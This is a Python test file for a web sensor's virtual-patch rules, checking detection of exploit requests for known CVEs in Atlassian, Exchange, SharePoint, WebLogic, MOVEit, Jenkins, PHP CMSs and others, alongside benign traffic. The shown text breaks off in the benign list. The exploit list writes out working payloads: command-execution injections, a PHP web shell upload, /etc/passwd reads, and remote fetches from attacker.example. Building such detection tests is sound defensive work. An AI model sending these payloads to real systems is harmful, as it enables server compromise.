"""The kev-apps virtual-patch pack fires on each public exploit request and stays quiet on the products' normal use."""
from __future__ import annotations


import pytest

from sensor.rules import load_rules
from tests.detect.conftest import req

PACK_FILE = "sensor/vpatches/kev-apps.yaml"
PACK = load_rules(PACK_FILE)

FORM = [("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Content-Type", "application/json")]
XML = [("Content-Type", "text/xml; charset=utf-8")]


def _mp(*parts: tuple[str, str | None, bytes]) -> tuple[list[tuple[str, str]], bytes]:
    """A multipart/form-data body from (name, filename or None, content) parts."""
    out = b""
    for name, filename, content in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        ctype = b"Content-Type: application/octet-stream\r\n" if filename else b""
        out += b"--BOUNDARY\r\nContent-Disposition: " + disp.encode() + b"\r\n" + ctype + b"\r\n" + content + b"\r\n"
    return [("Content-Type", "multipart/form-data; boundary=BOUNDARY")], out + b"--BOUNDARY--\r\n"


def _soap(inner: str) -> bytes:
    return ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
            f"<soap:Body>{inner}</soap:Body></soap:Envelope>").encode()


_WLS_XMLDECODER = _soap(
    '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder">'
    '<object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash'
    '</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array>'
    '<void method="start"/></object></java></work:WorkContext>')
_XMLRPC_SERIAL = (b'<?xml version="1.0"?><methodCall><methodName>ProjectDiscovery</methodName><params><param><value>'
                  b'<struct><member><name>test</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/'
                  b'extensions">rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC</serializable></value></member></struct>'
                  b'</value></param></params></methodCall>')
_CLI_ATFILE = (b"\x00\x00\x00\x06\x00\x00\x04help\x00\x00\x00\x0e\x00\x00\x0c@/etc/passwd"
               b"\x00\x00\x00\x05\x02\x00\x03GBK\x00\x00\x00\x07\x01\x00\x05en_US\x00\x00\x00\x00\x03")
_CLI_NORMAL = (b"\x00\x00\x00\x0e\x00\x00\x0clist-plugins\x00\x00\x00\x05\x02\x00\x03UTF-8"
               b"\x00\x00\x00\x07\x01\x00\x05en_US\x00\x00\x00\x00\x03")
_TELERIK_EXPLOIT = _mp(
    ("rauPostData", None, b"mQheol55oDQ4jmsICd+oG5ZGbl7Ic2CvVNHD5n4RVd0=&System.Configuration.Install.AssemblyInstaller, "
     b"System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a"),
    ("file", "blob", b"MZ\x90\x00"), ("fileName", None, b"RAU_crypto.bypass"), ("contentType", None, b"text/html"),
    ("lastModifiedDate", None, b"2019-01-02T03:04:05.067Z"), ("metadata", None, b'{"TotalChunks":1,"ChunkIndex":0}'))
_TELERIK_NORMAL = _mp(
    ("rauPostData", None, b"mQheol55oDQ4jmsICd+oG5ZGbl7Ic2CvVNHD5n4RVd0=&Telerik.Web.UI.AsyncUploadConfiguration, "
     b"Telerik.Web.UI, Version=2019.3.1023.45, Culture=neutral, PublicKeyToken=121fae78165ba3d4"),
    ("file", "photo.png", b"\x89PNG\r\n"), ("fileName", None, b"photo.png"), ("contentType", None, b"image/png"))
_CROWD_UPLOAD = _mp(("file_cdl", "rce.jar", b"PK\x03\x04atlassian-plugin.xml"))
_SP_DWP = ('<%@ Register Tagprefix="ScorecardClient" Namespace="Microsoft.PerformancePoint.Scorecards" '
           'Assembly="Microsoft.PerformancePoint.Scorecards.Client, Version=16.0.0.0" %><asp:UpdateProgress runat="server">'
           '<ProgressTemplate><div><ScorecardClient:ExcelDataSet CompressedDataTable="H4sIAAAAAAAEAO1d" '
           'DataTable-CaseSensitive="false" runat="server"/></div></ProgressTemplate></asp:UpdateProgress>')

# (expected rule ids, target, method, headers, body): each as the public PoC / scanner template sends it.
EXPLOITS = [
    # Atlassian
    ({"CVE-2023-22515"}, "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false",
     "GET", [("X-Atlassian-Token", "no-check")], b""),
    ({"CVE-2023-22518"}, "/json/setup-restore.action?synchronous=true", "POST",
     [("X-Atlassian-Token", "no-check")] + _mp(("buildIndex", None, b"false"), ("file", "xmlexport.zip", b"PK\x03\x04"),
                                               ("edit", None, b"Upload and import"))[0],
     _mp(("buildIndex", None, b"false"), ("file", "xmlexport.zip", b"PK\x03\x04"), ("edit", None, b"Upload and import"))[1]),
    ({"CVE-2021-26084"}, "/pages/createpage-entervariables.action?SpaceKey=x", "POST", FORM,
     b"queryString=aaaaaaaa%5Cu0027%2B%7BClass.forName%28%5Cu0027javax.script.ScriptEngineManager%5Cu0027%29."
     b"newInstance%28%29.getEngineByName%28%5Cu0027JavaScript%5Cu0027%29.%5Cu0065val%28%5Cu0027var+x%3D1%5Cu0027%29%7D"
     b"%2B%5Cu0027"),
    ({"CVE-2019-3396"}, "/rest/tinymce/1/macro/preview", "POST",
     JSON + [("Referer", "https://wiki.example/pages/resumedraft.action?draftId=786457")],
     b'{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/23464dc5",'
     b'"width":"1000","height":"1000","_template":"file:///etc/passwd"}}}'),
    ({"CVE-2022-26138"}, "/dologin.action", "POST", FORM,
     b"os_username=disabledsystemuser&os_password=disabled1system1user6708&login=Log+in&os_destination="),
    ({"CVE-2023-22527"}, "/template/aui/text-inline.vm", "POST", FORM,
     b"label=%5Cu0027%2B%23request%5Cu005B%5Cu0027.KEY_velocity.struts2.context%5Cu0027%5Cu005D.internalGet"
     b"%28%5Cu0027ognl%5Cu0027%29.findValue%28%23parameters.x%2C%7B%7D%29%2B%5Cu0027"
     b"&x=%40org.apache.struts2.ServletActionContext%40getResponse%28%29.setHeader%28%27X-Cmd%27%2C1%29"),
    ({"CVE-2021-26086"}, "/s/cfx/_/;/WEB-INF/web.xml", "GET", [], b""),
    ({"CVE-2021-26086"}, "/confluence/s/123cfx/_/;/WEB-INF/classes/seraph-config.xml", "GET", [], b""),
    ({"CVE-2019-8451"}, "/plugins/servlet/gadgets/makeRequest?url=https://jira.example.com:443@example.org", "GET",
     [("X-Atlassian-Token", "no-check")], b""),
    ({"CVE-2022-36804"}, "/rest/api/latest/projects/PUB/repos/site/archive?filename=pBwTw&at=pBwTw&path=pBwTw"
     "&prefix=ax%00--exec=%60id%60%00--remote=origin", "GET", [], b""),
    ({"CVE-2019-11580"}, "/crowd/admin/uploadplugin.action", "POST", _CROWD_UPLOAD[0], _CROWD_UPLOAD[1]),
    # Microsoft Exchange / SharePoint
    ({"CVE-2021-26855"}, "/ecp/y.js", "GET",
     [("Cookie", "X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; "
                 "X-BEResource=localhost/owa/auth/logon.aspx?~3;")], b""),
    ({"CVE-2021-26855"}, "/ecp/x.js", "POST",
     [("Cookie", "X-BEResource=Administrator@EXCH01.corp.local:444/autodiscover/autodiscover.xml?a=~1942062522;"),
      ("Content-Type", "text/xml")], b"<Autodiscover/>"),
    ({"CVE-2021-27065"}, "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=abc", "POST",
     JSON, b'{"identity":{"__type":"Identity:ECP","DisplayName":"OAB (Default Web Site)","RawIdentity":"1e9e"},'
           b'"properties":{"Parameters":{"__type":"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel",'
           b'"FilePathName":"\\\\\\\\127.0.0.1\\\\c$\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\'
           b'FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\shell.aspx"}}}'),
    ({"CVE-2021-34473"}, "/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@foo.com",
     "GET", [], b""),
    ({"CVE-2021-34473", "CVE-2021-34523", "CVE-2022-41040"},
     "/autodiscover/autodiscover.json?@foo.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9z&"
     "Email=autodiscover/autodiscover.json%3F@foo.com", "POST", [("Content-Type", "application/soap+xml;charset=UTF-8")],
     b"<s:Envelope/>"),
    ({"CVE-2021-34473", "CVE-2022-41040"},
     "/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%3F@evil.com&Protocol=XYZ"
     "&FooProtocol=Powershell", "GET", [("Authorization", "Basic dXNlcjpwYXNz")], b""),
    ({"CVE-2022-41040"}, "/autodiscover/autodiscover.json?a=..foo.var/owa/&Email=a@b.c&FooProtocol=%50owershell", "GET",
     [], b""),
    ({"CVE-2022-41080"}, "/owa/mastermailbox%40outlook.com/powershell", "POST",
     [("Content-Type", "application/soap+xml;charset=UTF-8")], b"<s:Envelope/>"),
    ({"CVE-2020-0688"}, "/ecp/default.aspx?__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAA",
     "GET", [("Cookie", "ASP.NET_SessionId=abc; msExchEcpCanary=def")], b""),
    ({"CVE-2025-53770"}, "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", "POST",
     FORM + [("Referer", "/_layouts/SignOut.aspx")], b"MSOTlPn_Uri=http%3A%2F%2Fsp%2F_controltemplates%2F15%2FAclEditor.ascx"),
    ({"CVE-2025-53770-b"}, "/_layouts/15/spinstall0.aspx", "GET", [], b""),
    ({"CVE-2025-53770-c"}, "/sites/hr/_layouts/15/ToolPane.aspx?DisplayMode=Edit", "POST", FORM,
     b"MSOTlPn_Uri=http%3A%2F%2Fsp%2F_controltemplates%2F15%2FAclEditor.ascx&MSOTlPn_DWP="
     + _SP_DWP.replace("%", "%25").replace(" ", "+").replace("&", "%26").replace("=", "%3D").encode()),
    # file transfer
    ({"CVE-2023-34362", "CVE-2023-34362-b"}, "/moveitisapi/moveitisapi.dll?action=m2", "POST",
     [("xx-silock-transaction", "folder_add_by_path"), ("X-siLock-Transaction", "session_setvars"),
      ("X-siLock-SessVar0", "MyUsername: Guest"), ("X-siLock-SessVar1", "MyPkgAccessCode: 123"),
      ("X-siLock-SessVar2", "MyGuestEmailAddr: my_guest_email@example.com")], b""),
    ({"CVE-2023-34362-c"}, "/human2.aspx", "GET", [("X-siLock-Comment", "7c8b4a6a-1a2b-4f0e-9c3d-1234567890ab"),
                                                  ("X-siLock-Step1", "-1")], b""),
    ({"CVE-2023-0669"}, "/goanywhere/lic/accept", "POST", FORM, b"bundle=AQAAABR0cnVlAAAAA7aGZvb2JhcmJhegAAAAA%3D"),
    ({"CVE-2024-4040"}, "/WebInterface/function/", "POST", FORM + [("Cookie", "CrushAuth=1712012345678_abc; currentAuth=c2f1")],
     b"command=exists&paths=%3CINCLUDE%3E/etc/passwd%3C/INCLUDE%3E&c2f=c2f1"),
    ({"CVE-2024-4040"}, "/WebInterface/function/?command=zip&c2f=c2f1&path={working_dir}&names=/a", "GET", [], b""),
    ({"CVE-2025-31161"}, "/WebInterface/function/?command=getUserList&serverGroup=MainUsers&c2f=1111", "GET",
     [("Authorization", "AWS4-HMAC-SHA256 Credential=crushadmin/"),
      ("Cookie", "CrushAuth=1743113839553_vD96EZ70ONL6xAd1DAJhXMZYMn1111; currentAuth=1111")], b""),
    ({"CVE-2024-50623"}, "/Synchronization", "GET",
     [("VLSync", "Retrieve;l=Ab1234-RQ0258;n=VLTrader;v=5.7.0.0;a=1337;po=5080;s=True;b=False;pp=myEncryptedPassphrase;"
                 "path=..\\..\\..\\..\\..\\..\\Windows\\win.ini")], b""),
    ({"CVE-2025-47812"}, "/loginok.html", "POST", FORM,
     b"username=anonymous%00]]%0dlocal+h+%3d+io.popen(%22id%22)%0dlocal+r+%3d+h%3aread(%22*a%22)%0dh%3aclose()%0dprint(r)"
     b"%0d--&password="),
    # Oracle
    ({"CVE-2020-14882"}, "/console/css/%252e%252e%252fconsole.portal", "GET", [], b""),
    ({"CVE-2020-14882", "CVE-2020-14883"},
     "/console/images/%252E%252E%252Fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh."
     "ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)", "GET", [], b""),
    ({"CVE-2020-14883"}, "/console/console.portal", "POST", FORM,
     b"_nfpb=true&_pageLabel=&handle=com.bea.core.repackaged.springframework.context.support."
     b"FileSystemXmlApplicationContext(%22http://example.org/x.xml%22)"),
    ({"CVE-2017-10271"}, "/wls-wsat/CoordinatorPortType", "POST", XML, _WLS_XMLDECODER),
    ({"CVE-2019-2725"}, "/_async/AsyncResponseService", "POST", XML, _WLS_XMLDECODER),
    ({"CVE-2025-61882"}, "/OA_HTML/configurator/UiServlet", "POST", FORM,
     b"redirectFromJsp=1&getUiType=%3C%40urlencoded%3E%3C%3Fxml+version%3D%221.0%22+encoding%3D%22UTF-8%22%3F%3E"
     b"%3Cinitialize%3E%3Cparam+name%3D%22init_was_saved%22%3Etest%3C%2Fparam%3E%3Cparam+name%3D%22return_url%22%3E"
     b"http%3A%2F%2Fattacker.example%3A7201%2FOA_HTML%2Fhelp%2F..%2Fieshostedsurvey.jsp+HTTP%2F1.2%26%2313%3B%26%2310%3B"
     b"Host%3A+attacker.example%3C%2Fparam%3E%3C%2Finitialize%3E%3C%2F%40urlencoded%3E"),
    ({"CVE-2022-21587"}, "/OA_HTML/BneViewerXMLService?bne:uueupload=TRUE", "POST",
     *_mp(("bne:uueupload", None, b"TRUE"), ("uploadfilename", "x.zip", b"begin 664 test.zip\nM4$L#!!0\n`\nend\n"))),
    # SAP
    ({"CVE-2025-31324"}, "/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1", "POST",
     *_mp(("file", "helper.jsp", b"<% out.println(1); %>"))),
    ({"CVE-2025-31324-b"}, "/irj/helper.jsp?cmd=whoami", "GET", [], b""),
    ({"CVE-2020-6287"}, "/CTCWebService/CTCWebServiceBean/ConfigServlet?param=com.sap.ctc.util.FileSystemConfig;"
     "EXECUTE_CMD;CMDLINE=id", "GET", [], b""),
    ({"CVE-2020-6287"}, "/CTCWebService/CTCWebServiceBean", "POST", XML,
     _soap('<urn:executeSynchronious xmlns:urn="urn:CTCWebServiceSi"><identifier><component>'
           'sap.com/tc~lm~config~example</component><version>0.1</version></identifier></urn:executeSynchronious>')),
    # developer tools
    ({"CVE-2023-42793"}, "/app/rest/users/id:1/tokens/RPC2", "POST", [], b""),
    ({"CVE-2023-42793-b"}, "/admin/dataDir.html?action=edit&fileName=config%2Finternal.properties"
     "&content=rest.debug.processes.enable=true", "POST", [("Authorization", "Bearer eyJ0eXAiOiAiVENWMiJ9.abc")], b""),
    ({"CVE-2024-27198"}, "/hax?jsp=/app/rest/users;.jsp", "POST", JSON,
     b'{"username": "haxor", "password": "haxor", "email": "haxor", "roles": {"role": [{"roleId": "SYSTEM_ADMIN", '
     b'"scope": "g"}]}}'),
    ({"CVE-2024-27198"}, "/idontexist?jsp=/app/rest/server;.jsp", "GET", [], b""),
    ({"CVE-2024-23897"}, "/cli?remoting=false", "POST",
     [("Session", "f6b5e6b1-3f4c-4d5b-9b9d-2c1f0e6d8a7b"), ("Side", "upload"),
      ("Content-Type", "application/octet-stream")], _CLI_ATFILE),
    ({"CVE-2018-1000861"}, "/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox."
     "groovy.SecureGroovyScript/checkScript?sandbox=true&value=public+class+x+%7Bpublic+x%28%29%7B%22id%22.execute%28%29"
     "%7D%7D", "GET", [], b""),
    ({"CVE-2023-7028"}, "/users/password", "POST", FORM,
     b"authenticity_token=abc&user%5Bemail%5D%5B%5D=victim%40example.com&user%5Bemail%5D%5B%5D=attacker%40example.org"),
    ({"CVE-2023-7028"}, "/users/password", "POST", JSON,
     b'{"authenticity_token":"abc","user":{"email":["victim@example.com","attacker@example.org"]}}'),
    # Apache and Java frameworks
    ({"CVE-2024-32113"}, "/webtools/control/forgotPassword;/ProgramExport", "POST", FORM,
     b"groovyProgram=throw+new+Exception('id'.execute().text);"),
    ({"CVE-2024-38856"}, "/webtools/control/main/ProgramExport", "POST", FORM,
     b"groovyProgram=\\u0074\\u0068\\u0072\\u006f\\u0077"),
    ({"CVE-2024-45195"}, "/webtools/control/forgotPassword/viewdatafile", "POST", FORM,
     b"DATAFILE_LOCATION=http://attacker.example/rceschema.xml&DATAFILE_SAVE=./applications/accounting/webapp/"
     b"accounting/index.jsp&DATAFILE_IS_URL=true&DEFINITION_LOCATION=http://attacker.example/rceschema.xml"
     b"&DEFINITION_IS_URL=true&DEFINITION_NAME=rce"),
    ({"CVE-2020-9496"}, "/webtools/control/xmlrpc", "POST", XML, _XMLRPC_SERIAL),
    ({"CVE-2022-22947"}, "/actuator/gateway/routes/hacktest", "POST", JSON,
     b'{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.'
     b'springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\\"id\\"})'
     b'.getInputStream()))}"}}],"uri":"http://example.com"}'),
    ({"CVE-2022-22963"}, "/functionRouter", "POST",
     [("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("touch /tmp/pwned")'),
      ("Content-Type", "text/plain")], b"test"),
    ({"CVE-2019-17558"}, "/solr/demo/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+"
     "%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+$rt.getRuntime().exec(%27id%27)", "GET", [], b""),
    ({"CVE-2019-17558-b"}, "/solr/demo/config", "POST", JSON,
     b'{"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter",'
     b'"template.base.dir":"","solr.resource.loader.enabled":"true","params.resource.loader.enabled":"true"}}'),
    ({"CVE-2021-25646"}, "/druid/indexer/v1/sampler?for=filter", "POST", JSON,
     b'{"type":"index","spec":{"ioConfig":{"type":"index","firehose":{"type":"local","baseDir":"/etc","filter":"passwd"}},'
     b'"dataSchema":{"dataSource":"test","transformSpec":{"filter":{"type":"javascript","function":"function(value){'
     b'return java.lang.Runtime.getRuntime().exec(\'id\')}","dimension":"added","":{"enabled":"true"}}}}},'
     b'"samplerConfig":{"numRows":10}}'),
    # Zimbra, Zoho, ServiceNow, SolarWinds, Ivanti
    ({"CVE-2019-9621"}, "/service/proxy?target=https://127.0.0.1:7071/service/admin/soap", "POST", XML,
     _soap('<AuthRequest xmlns="urn:zimbraAdmin"><authToken>0_abc</authToken></AuthRequest>')),
    ({"CVE-2021-40539"}, "/./RestAPI/LogonCustomization", "POST", FORM,
     b"methodToCall=unspecified&Save=yes&form=smartcard&operation=Add"),
    ({"CVE-2024-4879"}, "/login.do?jvar_page_title=%3Cstyle%3E%3Cj:jelly%20xmlns:j=%22jelly%22%20xmlns:g=%27glide%27%3E"
     "%3Cg:evaluate%3Egs.addErrorMessage(7*7);%3C/g:evaluate%3E%3C/j:jelly%3E%3C/style%3E", "GET", [], b""),
    ({"CVE-2020-10148"}, "/web.config.i18n.ashx?l=en-US&v=43005.1", "GET", [], b""),
    ({"CVE-2024-28987"}, "/helpdesk/WebObjects/Helpdesk.woa/ra/OrionTickets/", "GET",
     [("Authorization", "Basic aGVscGRlc2tJbnRlZ3JhdGlvblVzZXI6ZGV2LUM0RjgwMjVFNw==")], b""),
    # .NET CMS and components
    ({"CVE-2019-18935"}, "/Telerik.Web.UI.WebResource.axd?type=rau", "POST", *_TELERIK_EXPLOIT),
    ({"CVE-2024-4358"}, "/Startup/Register", "POST", FORM,
     b"Username=hax&Password=Hax123!&ConfirmPassword=Hax123!&Email=h%40x.example&FirstName=h&LastName=x"),
    ({"CVE-2021-42237"}, "/sitecore/shell/ClientBin/Reporting/Report.ashx", "POST", XML,
     b'<?xml version="1.0" ?><a><query></query><source>foo</source><parameters><parameter name=""><ArrayOfstring '
     b'z:Id="1" z:Type="System.Collections.Generic.SortedSet`1[[System.String]]"/></parameter></parameters></a>'),
    ({"CVE-2025-53690"}, "/sitecore/blocked.aspx", "POST", FORM,
     b"__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAASVN5c3RlbQ%3D%3D&__VIEWSTATEGENERATOR=DEADBEEF"),
    # PHP applications
    ({"CVE-2023-23752"}, "/api/index.php/v1/config/application?public=true", "GET", [], b""),
    ({"CVE-2020-25213"}, "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "POST",
     *_mp(("cmd", None, b"upload"), ("target", None, b"l1_Lw"), ("upload[]", "x.php", b"<?php system($_GET[0]); ?>"))),
    ({"CVE-2019-9978"}, "/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://attacker.example/payload.txt",
     "GET", [], b""),
    ({"CVE-2025-32432"}, "/index.php?p=admin/actions/assets/generate-transform", "POST",
     JSON + [("X-CSRF-Token", "abc")],
     b'{"assetId":11,"handle":{"width":123,"height":123,"as session":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior",'
     b'"__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],"_fn_close":"phpinfo"}}}'),
    ({"CVE-2025-32432"}, "/actions/assets/generate-transform", "POST", JSON,   # the action trigger's path form
     b'{"assetId":11,"handle":{"as x":{"class":"GuzzleHttp_Psr7_FnStream"}}}'),
    ({"CVE-2024-34102"}, "/rest/V1/guest-carts/1/estimate-shipping-methods", "POST", JSON,
     b'{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":"<?xml version=\\"1.0\\" ?>'
     b'<!DOCTYPE r [ <!ELEMENT r ANY > <!ENTITY % sp SYSTEM \\"http://attacker.example/dtd.xml\\"> %sp; %param1; ]>'
     b'<r>&exfil;</r>","options":16}}}}}}'),
    ({"CVE-2025-54236"}, "/rest/default/V1/guest-carts/abc/order", "PUT", JSON,
     b'{"paymentMethod":{"paymentData":{"context":{"urlBuilder":{"session":{"sessionConfig":{"savePath":'
     b'"media/customer_address/s/e"}}}}}}}'),
    ({"CVE-2019-16759"}, "/index.php?routestring=ajax/render/widget_php", "POST", FORM,
     b"widgetConfig%5Bcode%5D=echo+shell_exec%28%27id%27%29%3B+exit%3B"),
    ({"CVE-2019-16759"}, "/", "POST", FORM,
     b"routestring=ajax/render/widget_php&widgetConfig%5Bcode%5D=echo+shell_exec%28%27id%27%29%3B+exit%3B"),
    ({"CVE-2019-16759-b"}, "/ajax/render/widget_php", "POST", FORM, b"widgetConfig%5Bcode%5D=phpinfo%28%29%3B"),
    # other web applications
    ({"CVE-2020-7961"}, "/api/jsonws/invoke", "POST", FORM,
     b"cmd=%7B%22%2Fexpandocolumn%2Fupdate-column%22%3A%7B%7D%7D&p_auth=o3lt8q1F&formDate=1585270368703&columnId=123"
     b"&name=asdasd&type=1&defaultData%3Acom.mchange.v2.c3p0.WrapperConnectionPoolDataSource=%7B%22userOverridesAsString"
     b"%22%3A%22HexAsciiSerializedMap%3AACED0005%3B%22%7D"),
    ({"CVE-2023-32315"}, "/setup/setup-s/%u002e%u002e/%u002e%u002e/log.jsp", "GET", [], b""),
    ({"CVE-2023-27350"}, "/app?service=page/SetupCompleted", "GET", [], b""),
    ({"CVE-2024-1709"}, "/SetupWizard.aspx/literallyanything", "POST", FORM,
     b"__EVENTTARGET=&__EVENTARGUMENT=&__VIEWSTATE=abc&ctl00%24Main%24wizard%24StartNavigationTemplateContainerID%24"
     b"StartNextButton=Next"),
    ({"CVE-2023-29300"}, "/CFIDE/adminapi/accessmanager.cfc?method=foo&_cfclient=true", "POST", FORM,
     b"argumentCollection=%3CwddxPacket+version%3D%271.0%27%3E%3Cheader%2F%3E%3Cdata%3E%3Cstruct+type%3D%27xcom.sun."
     b"rowset.JdbcRowSetImpl%27%3E%3Cvar+name%3D%27dataSourceName%27%3E%3Cstring%3Eldap%3A%2F%2Fattacker.example%3A1389"
     b"%2Fx%3C%2Fstring%3E%3C%2Fvar%3E%3C%2Fstruct%3E%3C%2Fdata%3E%3C%2FwddxPacket%3E"),
    ({"CVE-2023-26360"}, "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=wizardHash"
     "&_cfclient=true&returnFormat=wddx&inPassword=foo", "POST", FORM,
     b"_variables=%7B%22_metadata%22%3A%7B%22classname%22%3A%22i%2F..%2Flgrfukyt.txt%22%7D%2C%22_variables%22%3A%5B%5D%7D"),
    ({"CVE-2025-24893"}, "/xwiki/bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D"
     "%7B%7Bgroovy%7D%7Dprintln(%22id%22.execute().text)%7B%7B%2Fgroovy%7D%7D%7B%7B%2Fasync%7D%7D", "GET", [], b""),
    ({"CVE-2019-7609"}, "/api/timelion/run", "POST", JSON + [("kbn-version", "6.5.4")],
     b'{"sheet":[".es(*).props(label.__proto__.env.AAAA=\'require(\\"child_process\\").exec(\\"id\\");process.exit()'
     b'//\')\\n.props(label.__proto__.env.NODE_OPTIONS=\'--require /proc/self/environ\')"],"time":{"from":"now-15m",'
     b'"to":"now","mode":"quick","interval":"10s","timezone":"Europe/Berlin"}}'),
    # stop 20
    ({"CVE-2025-61882-b"}, "/OA_HTML/configurator/UiServlet", "POST", FORM,
     b"redirectFromJsp=1&getUiType=%3C%40urlencoded%3E%3C%3Fxml+version%3D%221.0%22%3F%3E%3Cinitialize%3E%3Cparam+"
     b"name%3D%22return_url%22%3Ehttp%3A%2F%2F203.0.113.7%3A7201%2Fx%3C%2Fparam%3E%3C%2Finitialize%3E%3C%2F%40urlencoded%3E"),
    ({"CVE-2021-44077"}, "/RestAPI/ImportTechnicians?step=1", "POST", *_mp(("theFile", "msiexec.exe", b"MZ\x90\x00"))),
    ({"CVE-2021-44077-b"}, "/RestAPI/s247action?execute=s247AgentInstallationProcess&apiKey=x", "POST", [], b""),
    ({"CVE-2023-41892"}, "/index.php", "POST", FORM,
     b"action=conditions/render&test[userCondition]=craft%5Celements%5Cconditions%5Cusers%5CUserCondition&config="
     b"%7B%22name%22%3A%22test%5BuserCondition%5D%22%2C%22as+xyz%22%3A%7B%22class%22%3A%22%5C%5CGuzzleHttp%5C%5CPsr7"
     b"%5C%5CFnStream%22%2C%22__construct()%22%3A%5B%7B%22close%22%3Anull%7D%5D%2C%22_fn_close%22%3A%22phpinfo%22%7D%7D"),
]

# Normal use of the same products, on the same or neighbouring endpoints: the pack must stay silent.
BENIGN = [
    ("CVE-2023-22515", "/server-info.action", "GET", [], b""),
    ("CVE-2023-22515", "/pages/viewpage.action?pageId=123456&src=contextnavpagetreemode", "GET", [], b""),
    ("CVE-2023-22518", "/json/startheartbeatactivity.action", "POST", FORM, b"draftId=0&entityId=98309&draftType=page"),
    ("CVE-2023-22518", "/admin/restore.action", "GET", [], b""),
    ("CVE-2021-26084", "/pages/createpage-entervariables.action?spaceKey=DOC&templateId=98305", "POST", FORM,
     b"queryString=spaceKey%3DDOC%26title%3DRelease+notes&templateId=98305&title=Release+notes"),
    ("CVE-2019-3396", "/rest/tinymce/1/macro/preview", "POST", JSON,
     b'{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.youtube.com/watch?v=dQw4w9W",'
     b'"width":"400","height":"300"}}}'),
    ("CVE-2022-26138", "/dologin.action", "POST", FORM,
     b"os_username=jsmith&os_password=Correct+Horse&login=Log+in&os_destination=%2Findex.action"),
    ("CVE-2023-22527", "/template/aui/text-inline.vm", "GET", [], b""),
    ("CVE-2023-22527", "/display/DOC/Templates?label=howto", "GET", [], b""),
    ("CVE-2021-26086", "/s/en_GB/8100/abc/_/download/batch/jira.webresources:global-static/"
     "jira.webresources:global-static.css", "GET", [], b""),
    ("CVE-2019-8451", "/plugins/servlet/gadgets/makeRequest?url=https://jira.example.com/rest/gadget/1.0/intro", "GET",
     [], b""),
    ("CVE-2022-36804", "/rest/api/latest/projects/PUB/repos/site/archive?at=refs%2Fheads%2Fmain&format=zip"
     "&prefix=site-main%2F&filename=site-main.zip", "GET", [], b""),
    ("CVE-2019-11580", "/crowd/console/secure/admin/licensing.action", "GET", [], b""),
    ("CVE-2021-26855", "/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail.example.com%2fowa%2f", "GET",
     [("Cookie", "X-BackEndCookie=S-1-5-21-1=u56Lnp2ejJqByMfNxsfLx8; X-BEResource=EXCH01.corp.local~1942062522")], b""),
    ("CVE-2021-27065", "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=abc", "POST",
     JSON, b'{"identity":{"__type":"Identity:ECP","RawIdentity":"1e9e"},"properties":{"Parameters":{"__type":'
           b'"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel","FilePathName":'
           b'"\\\\\\\\fileserver\\\\backup\\\\oab-settings.txt"}}}'),
    ("CVE-2021-34473", "/autodiscover/autodiscover.json?Email=jsmith%40example.com&Protocol=ActiveSync&RedirectCount=1",
     "GET", [("User-Agent", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5278; Pro)")], b""),
    ("CVE-2021-34523", "/autodiscover/autodiscover.json?Email=jsmith%40example.com&Protocol=AutodiscoverV1", "GET",
     [("X-AnchorMailbox", "jsmith@example.com")], b""),
    ("CVE-2022-41040", "/autodiscover/autodiscover.json?Email=jsmith%40example.com&Protocol=Rest", "GET", [], b""),
